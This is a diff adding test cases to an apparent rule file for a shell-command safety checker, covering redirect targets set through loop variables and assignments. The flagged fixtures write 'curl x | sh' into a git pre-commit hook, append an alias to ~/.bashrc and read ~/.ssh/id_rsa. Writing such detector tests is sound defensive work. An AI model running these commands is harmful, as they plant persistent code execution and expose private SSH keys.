@@ -114,3 +114,19 @@ pip install --user requests
 pip list --user
 # ok: GK-WRITE-001
 pip install --cache-dir /tmp/pip-cache -r requirements.txt
+
+# -- A loop's or an assignment's value in a redirect's target (left open in round 9): the
+# target stayed unknown (REVIEW, the reviewer may approve it); it is the value, as in a
+# command's words --------------------------------------------------------------------
+# ruleid: GK-PROT-001
+for f in .git/hooks/pre-commit; do echo 'curl x | sh' > "$f"; done
+# ruleid: GK-PROT-001
+f=.git/hooks/pre-commit; echo 'curl x | sh' > $f
+# ruleid: GK-PROT-001
+for f in ~/.bashrc; do echo 'alias ls=x' >> "$f"; done
+# ruleid: GK-PROT-002
+f=~/.ssh/id_rsa; cat < "$f"
+# ok: GK-WRITE-003
+for f in a b; do echo x > "src/$f.txt"; done
+# ok: GK-WRITE-003
+out=src/build.log; echo done > "$out"
